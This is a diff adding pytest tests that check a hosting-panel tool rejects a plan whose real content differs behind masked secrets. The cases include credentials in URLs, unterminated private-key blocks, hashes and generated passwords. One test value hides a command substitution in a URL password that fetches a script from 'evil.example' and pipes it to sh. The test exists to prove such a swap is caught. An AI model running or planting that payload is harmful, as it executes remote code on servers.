@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 from collections.abc import Mapping
 from dataclasses import replace
 from typing import Any
@@ -161,6 +162,97 @@ def test_a_plan_has_no_secret_and_its_checksum_does_not_tell_one() -> None:
         "token": "(new)",
     }
     assert first["plan"]["checksum"] == second["plan"]["checksum"]
+
+
+BEGIN_KEY = "-----BEGIN PRIVATE KEY-----"
+BACKUP = {"client": "acme", "description": "nightly", "type": "exec"}
+
+
+def backup(command: str) -> Mapping[str, Any]:
+    return {"scheduled_tasks": [{**BACKUP, "command": command}]}
+
+
+def site(**domain: Any) -> Mapping[str, Any]:
+    return {"domains": [{"domain": "acme.example", **domain}]}
+
+
+def client(**options: Any) -> Mapping[str, Any]:
+    return {"clients": [{"username": "acme", **options}]}
+
+
+def sites() -> dict[str, list[dict[str, Any]]]:
+    return {
+        "/clients": [{"id": 1, "username": "acme", "notes": "", "colours": {}}],
+        "/domains": [{"id": 2, "domain": "acme.example", "id_user": 1}],
+        "/scheduled-tasks": [],
+    }
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        pytest.param(
+            backup("curl https://u:passaaaa1@x.example/cron"),
+            backup("curl https://u:$(wget${IFS}-qO-${IFS}evil.example|sh)@x.example/cron"),
+            id="code in place of a password in an address",
+        ),
+        pytest.param(
+            backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0B\n"),
+            backup(f"x {BEGIN_KEY}\nMIIEvQIBADANBgkqhkiG9w0C\n"),
+            id="a key without an end in a command",
+        ),
+        pytest.param(
+            site(apache={"http_directives": f"# {BEGIN_KEY}\nServerSignature Off"}),
+            site(apache={"http_directives": f"# {BEGIN_KEY}\nInclude /home/acme/x"}),
+            id="directives behind a key without an end",
+        ),
+        pytest.param(
+            site(target={"target": "https://u:one@x.example"}),
+            site(target={"target": "https://u:two@x.example"}),
+            id="the login of a target",
+        ),
+        pytest.param(client(notes="$6$salt$abcdefghij"), client(notes="$6$salt$abcdefghik"), id="a hash"),
+        pytest.param(
+            client(extra={"colours": {"of": ["https://u:one@x.example"]}}),
+            client(extra={"colours": {"of": ["https://u:two@x.example"]}}),
+            id="a text within a field of extra",
+        ),
+        pytest.param(
+            client(password=SECRET, update_password="always"),
+            client(regenerate_password=True),
+            id="a password that is set or generated",
+        ),
+    ],
+)
+def test_a_plan_that_writes_something_else_is_not_approved_though_masks_hide_the_difference(
+    first: Mapping[str, Any], second: Mapping[str, Any]
+) -> None:
+    approved = run(MemoryPanel(sites()), True, first)["plan"]["checksum"]
+    panel = MemoryPanel(sites())
+    result = run(panel, resources=second, expected_checksum=approved)
+    assert result["error"]["type"] == "PlanChanged"
+    assert panel.writes == []
+    assert run(MemoryPanel(sites()), resources=first, expected_checksum=approved)["changed"] is True
+
+
+def test_a_password_that_the_panel_generates_is_shown_as_such() -> None:
+    (action,) = run(MemoryPanel(sites()), True, client(regenerate_password=True))["plan"]["actions"]
+    assert action["after"] == {"password": "(generated)"}
+
+
+@pytest.mark.parametrize(
+    ("body", "slow"),
+    [({"notes": "x"}, 0), ({"notes": "https://u:p@x.example", "list": ["https://u:p@x.example"]}, 1)],
+)
+def test_only_texts_that_masks_hide_cost_the_time_in_which_nobody_guesses_them(
+    body: Mapping[str, Any], slow: int
+) -> None:
+    planned = replace(CREATED, change=ObjectPlan(KINDS["clients"], Wanted(), "acme", CREATE, body=body))
+    with mock.patch("hashlib.pbkdf2_hmac", wraps=hashlib.pbkdf2_hmac) as digest:
+        assert (checksum(planned) == checksum(CREATED)) is (slow == 0)
+    rounds = [call.args[3] for call in digest.call_args_list]
+    assert len(rounds) == slow
+    assert all(number >= 600_000 for number in rounds)
 
 
 # The diff
